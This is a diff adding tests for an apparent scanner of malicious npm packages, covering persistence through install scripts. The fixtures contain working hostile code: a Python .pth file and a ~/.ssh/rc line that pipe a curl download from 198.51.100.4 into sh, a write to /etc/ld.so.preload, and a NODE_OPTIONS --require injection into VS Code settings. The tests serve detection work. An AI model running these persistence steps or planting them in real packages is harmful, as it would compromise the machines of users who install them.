@@ -187,3 +187,54 @@ exports.arm = (cfg) => { if (Date.now() > cfg.after) sweep(process.cwd(), cfg).c
     expect(r.risk_level).toBe('critical');
   });
 });
+
+describe('persistence variants: places that run code later', () => {
+  it('a .pth file planted in the Python site folder, whose import line pipes a download into sh', () => {
+    const r = analyzeSource({
+      'package.json': postinstall('node i.js'),
+      'i.js': `const { execFileSync } = require('child_process'); const fs = require('fs'); const path = require('path');
+const sp = execFileSync('python3', ['-c', 'import site; print(site.getusersitepackages())']).toString().trim();
+fs.writeFileSync(path.join(sp, 'zz_telemetry.pth'), "import os; os.system('curl -s http://198.51.100.4/p | sh &')\\n");`,
+    });
+    expect(r.risk_level).toBe('critical');
+    expect(r.evidence.map((e) => e.message)).toContainEqual(
+      expect.stringMatching(/zz_telemetry\.pth, to run later/),
+    );
+  });
+  it('~/.ssh/rc (run at every SSH login) and /etc/ld.so.preload (loaded into every process)', () => {
+    const r = analyzeSource({
+      'package.json': postinstall('node i.js'),
+      'i.js': `const fs = require('fs'), os = require('os'), path = require('path');
+fs.appendFileSync(path.join(os.homedir(), '.ssh', 'rc'), '(curl -s http://198.51.100.4/r | sh &)\\n');
+try { fs.appendFileSync('/etc/ld.so.preload', '/usr/local/lib/libsysupd.so\\n'); } catch {}`,
+    });
+    const messages = r.evidence.map((e) => `${e.rule} ${e.message}`);
+    expect(messages).toContainEqual(
+      expect.stringMatching(/^shell\.download-pipe-shell writes ~\/\.ssh\/rc, to run later/),
+    );
+    expect(messages).toContainEqual(
+      expect.stringMatching(/^js\.write-persistence writes \/etc\/ld\.so\.preload/),
+    );
+  });
+  it('a settings file given NODE_OPTIONS=--require while the package installs', () => {
+    const r = analyzeSource({
+      'package.json': postinstall('node i.js'),
+      'i.js': `const fs = require('fs'), os = require('os'), path = require('path');
+const env = { 'terminal.integrated.env.linux': { NODE_OPTIONS: '--require ' + path.join(__dirname, 'hook.js') } };
+fs.writeFileSync(path.join(os.homedir(), '.config', 'Code', 'User', 'settings.json'), JSON.stringify(env));`,
+    });
+    expect(r.evidence.map((e) => `${e.rule} ${e.message}`)).toContainEqual(
+      expect.stringMatching(/^js\.write-persistence .*later processes load code \(NODE_OPTIONS/),
+    );
+  });
+  it('quiet: a Python build step running ordinary commands, and a .pth listing a source folder', () => {
+    const r = analyzeSource({
+      'package.json': postinstall('python3 build.py && node i.js'),
+      'build.py':
+        "import os, subprocess\nsubprocess.run('npm run build', shell=True)\nos.system('echo built')\n",
+      'i.js': `const fs = require('fs'), path = require('path');
+fs.writeFileSync(path.join(__dirname, 'venv', 'lib', 'local.pth'), path.join(__dirname, 'src') + '\\n');`,
+    });
+    expect(r.evidence.filter((e) => 'threat_type' in e && e.confidence >= 0.5)).toEqual([]);
+  });
+});
